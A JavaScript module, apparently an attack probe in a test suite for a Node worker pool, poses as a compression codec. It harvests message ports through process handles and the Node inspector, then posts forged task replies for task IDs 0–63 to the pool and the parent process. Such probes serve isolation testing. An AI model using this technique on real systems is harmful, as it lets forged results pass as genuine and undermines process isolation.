/** Posts forged replies through every message port that can be found, Node's own ones too, and to a parent process. */
import { attempt, builtin, marked } from './attack.js';
import { compress, decompress } from './codec.js';
import { forgedReplies } from './forgery.js';
import { openInspector } from './inspector.js';

const { process } = globalThis;
const threads = await builtin('worker_threads');
const ports = new Set();

function findHandles() {
  ports.add(threads.parentPort);
  for (const handle of process._getActiveHandles()) ports.add(handle);
}

/** Ports that only a closure of the pool holds. */
async function findHidden() {
  const { allOf, post } = await openInspector();
  globalThis.keepPort = (port) => ports.add(port);
  post('Runtime.callFunctionOn', {
    objectId: allOf('MessagePort.prototype'),
    functionDeclaration: 'function () { this.forEach(globalThis.keepPort); }',
  });
  delete globalThis.keepPort;
}

await attempt(findHandles, findHidden);
const posts = [...ports].filter((port) => typeof port?.postMessage === 'function');
const worked = posts.length > 0 || process?.send !== undefined;

function forge(frame) {
  for (const reply of forgedReplies(frame)) {
    // The pool numbers its tasks.
    for (let taskId = 0; taskId < 64; taskId++) {
      for (const port of posts) {
        try {
          port.postMessage({ ...reply, taskId });
        } catch {}
      }
    }
    try {
      process.send(reply);
    } catch {}
  }
}

export default {
  create: () => ({
    compress(matrix) {
      const frame = marked(compress(matrix), worked);
      if (worked) forge(frame);
      return frame;
    },
    decompress,
  }),
};
